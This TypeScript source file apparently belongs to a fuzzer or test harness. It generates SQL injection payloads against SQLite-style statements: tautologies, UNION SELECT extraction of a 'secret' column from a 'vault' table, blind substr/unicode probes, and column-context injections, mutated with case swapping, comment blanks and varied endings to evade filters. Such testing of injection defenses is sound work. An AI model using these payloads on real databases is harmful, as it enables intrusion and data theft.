// Attacks on an SQL statement, rewritten so that they mean the same: letters' case, comments and odd blanks
// for blanks, other spellings of constants, conditions, texts and endings.
import type { Random } from './random.ts';

/** How the statement holds the value; `$` stands for it. */
export interface SqlContext {
  readonly name: string;
  readonly statement: string;
}

export const SQL_CONTEXTS: readonly SqlContext[] = [
  { name: 'single', statement: "SELECT id, name FROM items WHERE name = '$'" },
  { name: 'single', statement: "SELECT id, name FROM items WHERE (name = '$' AND price > 0)" },
  { name: 'like', statement: "SELECT id, name FROM items WHERE name LIKE '%$%'" },
  { name: 'double', statement: 'SELECT id, name FROM items WHERE name = "$"' },
  { name: 'number', statement: 'SELECT id, name FROM items WHERE id = $' },
  { name: 'number', statement: 'SELECT id, name FROM items WHERE (id = $)' },
  { name: 'column', statement: 'SELECT id, $ FROM items WHERE id = 1' },
];

/** Templates: `Q` is the quote of the context, `_` a blank, `TRUE` a condition, `END` the rest cut off. */
const SEEDS: readonly string[] = [
  'xQ_OR_TRUE_END',
  'xQ_OR_TRUE_OR_Qa',
  'xQ)_OR_TRUE_END',
  'xQ)_OR_(TRUE_END',
  'xQ_UNION_SELECT_id,secret_FROM_vault_END',
  'xQ_UNION_ALL_SELECT_1,secret_FROM_vault_END',
  'xQ)_UNION_SELECT_id,secret_FROM_vault_END',
  'xQ_UNION_SELECT_1,(SELECT_secret_FROM_vault)_END',
  'xQ_OR_EXISTS(SELECT_1_FROM_vault)_END',
  'xQ_OR_(SELECT_count(*)_FROM_vault)>0_END',
  'xQ_OR_name_LIKE_CONSTANT_END',
  'xQ_OR_length(name)>0_END',
  'xQ_OR_NOT_FALSE_END',
  'xQ_OR_id_IN_(SELECT_id_FROM_items)_END',
  'xQ_OR_CASE_WHEN_TRUE_THEN_1_ELSE_0_END2_END',
  'xQ_OR_iif(TRUE,1,0)_END',
  'xQ_OR_(WITH_t_AS_(SELECT_1)_SELECT_1_FROM_t)_END',
  'xQ_OR_name_NOTNULL_END',
  'xQ_OR_name_IS_NOT_NULL_OR_Qa',
  'xQ_OR_name_GLOB_QPATTERNQ_END',
  'xQ_OR_nameOPERATORQ',
  'xQ_OR_id_IN_(1,2,3)_END',
  'xQ_OR_(1,2)=(1,2)_END',
  'xQ_OR_TRUE_LIMIT_9_END',
  'xQ_OR_TRUE_GROUP_BY_id_HAVING_TRUE_END',
  'xQ_UNION_SELECT_NULL,group_concat(secret)_FROM_vault_END',
  'xQ_UNION_SELECT_*_FROM_(SELECT_1,secret_FROM_vault)_END',
  'xQ_UNION_VALUES(1,(SELECT_secret_FROM_vault))_END',
  'xQ_UNION_SELECT_id,[secret]_FROM_[vault]_END',
  'xQ_UNION_SELECT_id,`secret`_FROM_main.`vault`_END',
  'xQ_UNION_SELECT_1,secret_FROM_vault_AS_v_WHERE_TRUE_END',
  'xQ_UNION_SELECT_1,sql||(SELECT_secret_FROM_vault)_FROM_sqlite_schema_END',
  'xQ_OR_json_valid(Q[]Q)_END',
  'xQ_OR_json_extract(Q{"a":1}Q,Q$.aQ)_END',
  'xQ_OR_Q{"a":1}Q->>Q$.aQ_END',
  'xQ_OR_Q[1,2]Q->0_END',
  'xQ_OR_EXISTS(SELECT_1_FROM_json_each(Q[1]Q))_END',
  'xQ_UNION_SELECT_key,(SELECT_secret_FROM_vault)_FROM_json_each(Q[1]Q)_END',
  'xQ_UNION_SELECT_1,json_group_array(secret)_FROM_vault_END',
  'xQ_UNION_SELECT_1,json_object(QaQ,secret)_FROM_vault_END',
  'xQ_UNION_SELECT_row_number()_OVER(),secret_FROM_vault_END',
  'xQ_UNION_SELECT_1,max(secret)_OVER_(PARTITION_BY_id_ORDER_BY_id_ROWS_BETWEEN_1_PRECEDING_AND_CURRENT_ROW)_FROM_vault_END',
  'xQ_UNION_SELECT_1,first_value(secret)_OVER_w_FROM_vault_WINDOW_w_AS_(ORDER_BY_id)_END',
  'xQ_UNION_SELECT_1,group_concat(secret)_FILTER_(WHERE_TRUE)_FROM_vault_END',
  'xQ_OR_(id,1)_IN_(SELECT_id,1_FROM_items)_END',
  'xQ_OR_(id,name)>(0,QQ)_END',
  'xQ_OR_id_IS_DISTINCT_FROM_9_END',
  'xQ_OR_id_IS_NOT_9_END',
  'xQ_OR_+id>-1_END',
  'xQ_OR_NOT_id_ISNULL_END',
  'xQ_COLLATE_nocase_OR_TRUE_END',
  'xQ_COLLATE"nocase"OR_TRUE_END',
  'xQ_COLLATE_nocase_IS_NOT_1_END',
  'xQ_IS_NOT_1_END',
  'xQ_IS_0_END',
  'xQ_NOTNULL_END',
  'xQ_ISNULL_OR_TRUE_END',
  'xQ_IN(0)_END',
  'xQ_IN_(SELECT_0)_END',
  'xQ_BETWEEN_0_AND_1_END',
  'xQ_<>name_END',
  'xQ=0_END',
  'xQ==0_END',
  'xQ_IS_FALSE_END',
  'xQ_NOT_LIKE_1_END',
  'xQ_NOT_IN(1)_END',
  'xQ_OR_(VALUES(1))_END',
  'xQ_OR_EXISTS(VALUES(1))_END',
  'xQ_OR_EXISTS(SELECT*FROM_vault)_END',
  'xQ_UNION_SELECT*FROM_vault_END',
  'xQ_UNION_SELECT"id","secret"FROM"vault"_END',
  'xQ_UNION_SELECT.1,secret_FROM_vault_END',
  'xQ_UNION_SELECT-1,secret_FROM_vault_END',
  'xQ_UNION_SELECT~1,+secret_FROM_vault_END',
  'xQ_UNION_SELECT(1),(secret)FROM(vault)_END',
  'xQ_UNION_SELECT@a,secret_FROM_vault_END',
  'xQ_UNION_SELECT_?1,secret_FROM_vault_END',
  'xQ_UNION_SELECT:a,$b||secret_FROM_vault_END',
  'xQ_UNION_SELECT_1,secret_FROM_vault_NATURAL_JOIN_items_END',
  'xQ_UNION_SELECT_1,secret_FROM_items_LEFT_JOIN_vault_USING(id)_END',
  'xQ_UNION_SELECT_1,secret_FROM_items,vault_END',
  'xQ_UNION_SELECT_1,secret_FROM_items_i_CROSS_JOIN_vault_v_ON_i.id=v.id_END',
  'xQ_UNION_SELECT_1,secret_FROM_vault_NOT_INDEXED_END',
  'xQ_UNION_SELECT_DISTINCT_1,secret_FROM_vault_LIMIT_1_OFFSET_0_END',
  'xQ_EXCEPT_SELECT_1,2_UNION_SELECT_1,secret_FROM_vault_END',
  'xQ_INTERSECT_SELECT_1,2_UNION_ALL_SELECT_1,secret_FROM_vault_END',
  'xQ_UNION_SELECT_*_FROM_(WITH_RECURSIVE_t(n)_AS_(SELECT_1_UNION_SELECT_n+1_FROM_t_WHERE_n<3)_SELECT_n,(SELECT_secret_FROM_vault)_FROM_t)_END',
  'xQ_OR_iif(EXISTS(SELECT_1_FROM_vault),1,0)_END',
  'xQ_OR_1_IN_(SELECT_1_FROM_vault_WHERE_secret_GLOB_QM*Q)_END',
  'xQ_OR_substr((SELECT_secret_FROM_vault),1,1)=char(77)_END',
  'xQ_OR_unicode((SELECT_secret_FROM_vault))>64_END',
  'xQ_UNION_SELECT_1,printf(Q%sQ,secret)_FROM_vault_END',
  'xQ_UNION_SELECT_1,cast(secret_AS_text)_FROM_vault_END',
  'xQ_UNION_SELECT_1,secret_AS_"from"_FROM_vault_END',
  'xQ_UNION_SELECT_1e0,secret_FROM_vault_END',
  'xQ_UNION_SELECT_0x1,secret_FROM_vault_END',
  "xQ_UNION_SELECT_x'31',secret_FROM_vault_END",
];

/** What stands where a name of a column was expected. */
const COLUMNS: readonly string[] = [
  'name,(SELECT_secret_FROM_vault)',
  '(SELECT_secret_FROM_vault)',
  '(SELECT_group_concat(secret)_FROM_vault)_AS_x',
  'secret_FROM_vault_END',
  '1_FROM_items_UNION_SELECT_1,secret_FROM_vault_END',
  'name_FROM_items_WHERE_TRUE_END',
  'CASE_WHEN_TRUE_THEN_(SELECT_secret_FROM_vault)_END2',
  'iif(TRUE,(SELECT_secret_FROM_vault),1)',
  'coalesce((SELECT_secret_FROM_vault),name)',
  'name||(SELECT_secret_FROM_vault)',
  '(SELECT_sql||secret_FROM_sqlite_schema,vault)',
  'max((SELECT_secret_FROM_vault))_OVER_()',
  "json_object('a',(SELECT_secret_FROM_vault))",
];

const BLANKS = [
  ' ',
  '  ',
  '\t',
  '\n',
  '/**/',
  '/*x*/',
  ' /**/ ',
  '\f',
  '\r\n',
  '--\n',
  '--x y\n',
  "/*'*/",
  '/*"--*/',
  '\n\n',
] as const;
const TRUTHS = [
  '1=1',
  '2>1',
  "'a'='a'",
  '1',
  '1<2',
  "'x' LIKE 'x'",
  '1 IS 1',
  'NOT 0',
  '1 BETWEEN 0 AND 2',
  '3 IN (1,2,3)',
  '(1)=(1)',
  '1.0=1',
  '0x1=1',
  '-1=-1',
  '+1=1',
  "'a'||'b'='ab'",
  'abs(-1)=1',
  "length('ab')=2",
  '5-4=1',
  '~0=-1',
  "''=''",
  'NULL IS NULL',
  '1<>2',
  '1!=2',
  '1>=1',
  '2*3=6',
  "lower('A')='a'",
  "substr('abc',1,1)='a'",
  'NOT 1=2',
  '1=1=1',
  "'a'<'b'",
  'coalesce(NULL,1)',
  '1==1',
  '1 IS NOT 2',
  "'abc' GLOB 'a*'",
  '1 NOTNULL',
  "x'41'='A'",
  'char(97)=char(97)',
  "hex('a')='61'",
  "typeof(1)='integer'",
  '1<<1',
  '5&4',
  "CAST('1' AS INT)",
  '(SELECT 1)',
  'min(1,2)=1',
  "instr('ab','b')",
  "printf('%d',1)='1'",
  'ifnull(NULL,1)',
  'nullif(1,2)',
  "replace('a','b','c')='a'",
  "unicode('a')=97",
  "'a' COLLATE nocase='A'",
  '.5<1',
  '1e0=1',
  '1 IN (VALUES(1))',
  "trim(' a ')='a'",
  'likely(1)',
  'TRUE IS TRUE',
  '1 IS DISTINCT FROM 2',
  "json_valid('{}')",
  "json('1')",
  "json_array_length('[1]')",
  "'[1]'->>0=1",
  "'{}'->'a' IS NULL",
  '(1,2)<(2,1)',
  '(SELECT 1)=1',
  'EXISTS(SELECT 1)',
  '1 NOT IN (2)',
  '1 NOT BETWEEN 2 AND 3',
  "'a' NOT LIKE 'b'",
  '1e1=10',
  '0x10=16',
  '-~0=1',
  "'1'",
  '.1',
  'id',
  'rowid',
  '"id"',
  '`id`',
  '[id]',
  '-id',
  'id*1',
  'id IS id',
  'id<>-1',
  "name IS NOT''",
  "name>''",
  'max(1,0)',
  'date()',
  "date('now')>'2'",
  "strftime('%s')>1",
  'julianday()>1',
  'random()NOTNULL',
  'total_changes()>=0',
  "sqlite_version()>'3'",
  'likelihood(1,.5)',
  "glob('*','x')",
  "like('%','x')",
  'sign(1)',
  'iif(1,1,0)',
  'CASE 1 WHEN 1 THEN 1 END',
  '(VALUES(1))',
  "current_date>'1'",
  'current_timestamp NOTNULL',
  "ltrim('1')",
  'round(.9)',
  '1 AND 1',
  "'1'||''",
  'quote(1)=1',
  "zeroblob(0)=x''",
  "1 COLLATE binary='1'",
  '1/1',
  '3%2',
  '1|0',
] as const;
const ENDINGS = ['--', '-- ', '-- -', '--x', '/*', ';--', '; -- x', '--\t', '-- and more'] as const;
const CONSTANTS = ["'%'", "'%a%'", "'_%'"] as const;

/** One attack for the context; not every one works, which is for the database to say. */
export function makeSqlMutant(random: Random, context: SqlContext): string {
  const quote = context.name === 'double' ? '"' : "'";
  let attack = random.pick(context.name === 'column' ? COLUMNS : SEEDS);
  if (context.name === 'number')
    attack = attack.replace(/^xQ/, random.pick(['1', '-1', '0', '9e9', '1.5', '(1)', "''"]));
  attack = attack.replaceAll('CASE_WHEN', 'CASE_WHEN').replace('END2', 'END');
  attack = attack
    .replace('PATTERN', () => random.pick(['*', '?*', '[a-z]*']))
    .replace('OPERATOR', () => random.pick(['>', '>=', '<>', '!=', ' IS NOT ']))
    .replaceAll('Q', quote);
  const ending = random.pick(ENDINGS);
  attack = attack.replace(/_END$/, () => `_${ending}`);
  attack = attack.replaceAll('CONSTANT', () => random.pick(CONSTANTS));
  attack = attack.replace(/\bTRUE\b|(?<=_)TRUE(?=_|$)|(?<=\()TRUE/g, () => random.pick(TRUTHS));
  attack = attack.replace(/(?<=_)FALSE/g, () =>
    random.pick(['0', '1=2', "'a'='b'", 'NULL IS NOT NULL']),
  );
  attack = attack.replace(/[A-Za-z]{2,}/g, (word) =>
    random.chance(0.4) ? swapCase(random, word) : word,
  );
  // Names with a stroke of their own keep it.
  attack = attack.replace(
    /\b(?:group_concat|sqlite_\w+?(?=[^a-z_]|$)|json_(?:valid|extract|each|object|group_array|array_length)|row_number|first_value|total_changes|current_(?:date|timestamp))/gi,
    (name) => name.replaceAll('_', '\x02'),
  );
  attack = attack.replaceAll('_', () => (random.chance(0.5) ? ' ' : random.pick(BLANKS)));
  attack = attack.replaceAll('\x02', '_');
  if (random.chance(0.2))
    attack = attack.replace(
      / ?(\() ?/g,
      (_, open: string) => `${random.pick(['', '/**/', '\n'])}${open}`,
    );
  return attack;
}

function swapCase(random: Random, word: string): string {
  return Array.from(word)
    .map((letter) => (random.chance(0.5) ? letter.toUpperCase() : letter.toLowerCase()))
    .join('');
}
